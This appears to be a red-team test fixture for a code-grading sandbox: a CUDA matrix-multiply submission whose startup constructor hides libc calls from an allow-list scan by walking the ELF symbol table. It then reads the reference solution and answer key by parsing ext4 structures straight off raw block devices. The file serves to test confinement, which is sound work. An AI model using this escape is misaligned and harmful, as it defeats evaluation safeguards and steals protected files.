// Known-bad submission (red team, worker files: /dev): reads the reference solution from the raw block device (/dev/vda, /dev/sda, ...) under the root filesystem, from .init: stat() gives the file's inode (Landlock does not judge stat), ext4's superblock, group descriptor, inode and extent give its blocks.
// Its kernel is right only when the escape worked (scale 1): "wrong" is the proof it was stopped.
// The kit's self-test asserts what the grader makes of it in ../expect.toml.
#include <cuda_runtime.h>
#include <elf.h>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <sys/stat.h>

#define BLOCK_WIDTH 16

// Correct only when `scale` is 1: the product counts only if the escape worked.
__global__ void MatrixMulKernel(const float* M, const float* N, float* P, int Width, float scale) {
    int Row = blockIdx.y * blockDim.y + threadIdx.y;
    int Col = blockIdx.x * blockDim.x + threadIdx.x;
    if (Row < Width && Col < Width) {
        float Pvalue = 0;
        for (int k = 0; k < Width; ++k) Pvalue += M[Row * Width + k] * N[k * Width + Col];
        P[Row * Width + Col] = Pvalue * scale;
    }
}

static bool same(const char* a, const char* b) {
    while (*a && *a == *b) ++a, ++b;
    return *a == *b;
}

// libc's definition of `name`, found in its dynamic symbol table from printf's address: no name
// the allow-list refuses appears in the object.
static void* libc_function(const char* name) {
    int (*volatile anchor)(const char*, ...) = printf;
    uintptr_t base = reinterpret_cast<uintptr_t>(anchor) & ~uintptr_t(4095);
    while (*reinterpret_cast<const uint32_t*>(base) != 0x464c457f) base -= 4096;  // "\x7fELF"
    const auto* eh = reinterpret_cast<const Elf64_Ehdr*>(base);
    const auto* ph = reinterpret_cast<const Elf64_Phdr*>(base + eh->e_phoff);
    const Elf64_Dyn* dyn = nullptr;
    for (int i = 0; i < eh->e_phnum; ++i)
        if (ph[i].p_type == PT_DYNAMIC) dyn = reinterpret_cast<const Elf64_Dyn*>(base + ph[i].p_vaddr);
    uintptr_t symtab = 0, strtab = 0;
    for (; dyn && dyn->d_tag != DT_NULL; ++dyn) {
        if (dyn->d_tag == DT_SYMTAB) symtab = dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_STRTAB) strtab = dyn->d_un.d_ptr;
    }
    if (symtab < base) symtab += base;
    if (strtab < base) strtab += base;
    for (auto* s = reinterpret_cast<const Elf64_Sym*>(symtab); reinterpret_cast<uintptr_t>(s) < strtab; ++s)
        if (s->st_value && same(reinterpret_cast<const char*>(strtab + s->st_name), name))
            return reinterpret_cast<void*>(base + s->st_value);
    return nullptr;
}

template <class F> static F fn(const char* name) { return reinterpret_cast<F>(libc_function(name)); }
using OpenF = int (*)(const char*, int, ...);
using OpenatF = int (*)(int, const char*, int, ...);
using ReadF = long (*)(int, void*, unsigned long);
using PreadF = long (*)(int, void*, unsigned long, long);
using WriteF = long (*)(int, const void*, unsigned long);
using CloseF = int (*)(int);

static bool has(const char* buf, long n, const char* marker) {
    long m = (long)strlen(marker);
    for (long i = 0; i + m <= n; ++i)
        if (memcmp(buf + i, marker, m) == 0) return true;
    return false;
}

// Reads up to `cap` bytes of an open descriptor; true when `marker` is among them.
static bool fd_has(int fd, const char* marker, long cap = 1 << 16) {
    if (fd < 0) return false;
    static char buf[1 << 16];
    long total = 0, n;
    while (total < cap && (n = fn<ReadF>("read")(fd, buf + total, cap - total)) > 0) total += n;
    fn<CloseF>("close")(fd);
    return has(buf, total, marker);
}

static volatile bool g_escaped = false;

// What a student would read if the worker could: the reference solution and the answer key, by the
// paths the public repository's layout gives from the judge's working folder (grader/) or the root.
static const char* const kSecrets[][2] = {
    {"../solutions/01-basic/matmul.cu", "BEGIN SOLUTION"},
    {"../solutions/01-basic/questions-key.toml", "[answer]"},
    {"solutions/01-basic/matmul.cu", "BEGIN SOLUTION"},
    {"../../solutions/01-basic/matmul.cu", "BEGIN SOLUTION"},
    {"../../../solutions/01-basic/matmul.cu", "BEGIN SOLUTION"},
};

using StatF = int (*)(const char*, struct stat*);

static bool ext4_file_has(int dev, unsigned long ino, const char* marker) {
    PreadF pread = fn<PreadF>("pread64");
    static unsigned char sb[1024], node[65536], data[65536], inode[1024];
    if (pread(dev, sb, 1024, 1024) != 1024 || *(uint16_t*)(sb + 56) != 0xEF53) return false;
    uint64_t bs = 1024ull << *(uint32_t*)(sb + 24);
    uint32_t ipg = *(uint32_t*)(sb + 40), isz = *(uint16_t*)(sb + 88), first = *(uint32_t*)(sb + 20);
    uint32_t dsz = (*(uint32_t*)(sb + 96) & 0x80) ? *(uint16_t*)(sb + 254) : 32;
    if (dsz < 32) dsz = 32;
    uint64_t group = (ino - 1) / ipg, index = (ino - 1) % ipg;
    unsigned char gd[64];
    if (pread(dev, gd, dsz, (first + 1) * bs + group * dsz) != (long)dsz) return false;
    uint64_t itable = *(uint32_t*)(gd + 8);
    if (dsz >= 64) itable |= (uint64_t)*(uint32_t*)(gd + 0x28) << 32;
    if (pread(dev, inode, isz, itable * bs + index * isz) != (long)isz) return false;
    memcpy(node, inode + 40, 60);
    for (int level = 0; level < 6; ++level) {
        if (*(uint16_t*)node != 0xF30A) return false;
        uint16_t entries = *(uint16_t*)(node + 2), depth = *(uint16_t*)(node + 6);
        if (depth == 0) {
            for (int e = 0; e < entries; ++e) {
                unsigned char* x = node + 12 + 12 * e;
                uint64_t start = ((uint64_t)*(uint16_t*)(x + 6) << 32) | *(uint32_t*)(x + 8);
                uint64_t len = *(uint16_t*)(x + 4);
                if (len > 32768) len -= 32768;
                long n = (long)(len * bs > sizeof(data) ? sizeof(data) : len * bs);
                if (pread(dev, data, n, start * bs) == n && has((const char*)data, n, marker)) return true;
            }
            return false;
        }
        unsigned char* x = node + 12;
        uint64_t leaf = ((uint64_t)*(uint16_t*)(x + 8) << 32) | *(uint32_t*)(x + 4);
        if (pread(dev, node, bs, leaf * bs) != (long)bs) return false;
    }
    return false;
}

extern "C" __attribute__((used)) void tl_before_main() {
    static const char* const devs[] = {"/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/xvda", "/dev/vda1",
                                       "/dev/sda1", "/dev/nvme0n1p1", "/dev/nvme0n1p2", "/dev/sda2", "/dev/root"};
    for (auto& s : kSecrets) {
        struct stat st, ds;
        if (fn<StatF>("stat")(s[0], &st) != 0) continue;
        for (const char* d : devs) {
            if (fn<StatF>("stat")(d, &ds) != 0 || !S_ISBLK(ds.st_mode) || ds.st_rdev != st.st_dev) continue;
            int fd = fn<OpenF>("open")(d, O_RDONLY);
            bool got = fd >= 0 && ext4_file_has(fd, st.st_ino, s[1]);
            fprintf(stderr, "redteam raw-disk: %s inode %lu on %s: open %s, %s\n", s[0], (unsigned long)st.st_ino, d,
                    fd >= 0 ? "ok" : "refused", got ? "READ IT" : "not read");
            if (fd >= 0) fn<CloseF>("close")(fd);
            if (got) g_escaped = true;
        }
    }
}

#ifndef __CUDA_ARCH__
// ".init" in this file: the first of its constructors (priority 101, before the runtime's): .init
// code needs file-scope asm, which the allow-list scan refuses (docs/integrity.md, "Nothing the
// instrumentation cannot see"). What this case proves is its payload's confinement, not the section.
__attribute__((constructor(101))) static void tl_first_constructor() { tl_before_main(); }
#endif

void launch_matmul(const float* M, const float* N, float* P, int Width) {
    dim3 dimBlock(BLOCK_WIDTH, BLOCK_WIDTH);
    dim3 dimGrid((Width + BLOCK_WIDTH - 1) / BLOCK_WIDTH, (Width + BLOCK_WIDTH - 1) / BLOCK_WIDTH);
    MatrixMulKernel<<<dimGrid, dimBlock>>>(M, N, P, Width, g_escaped ? 1.0f : 0.5f);
}

void matmul_host(const float* M_h, const float* N_h, float* P_h, int Width) {
    size_t size = (size_t)Width * Width * sizeof(float);
    float *M_d = nullptr, *N_d = nullptr, *P_d = nullptr;
    cudaMalloc((void**)&M_d, size);
    cudaMalloc((void**)&N_d, size);
    cudaMalloc((void**)&P_d, size);
    cudaMemcpy(M_d, M_h, size, cudaMemcpyHostToDevice);
    cudaMemcpy(N_d, N_h, size, cudaMemcpyHostToDevice);
    launch_matmul(M_d, N_d, P_d, Width);
    cudaMemcpy(P_h, P_d, size, cudaMemcpyDeviceToHost);
    cudaFree(M_d);
    cudaFree(N_d);
    cudaFree(P_d);
}
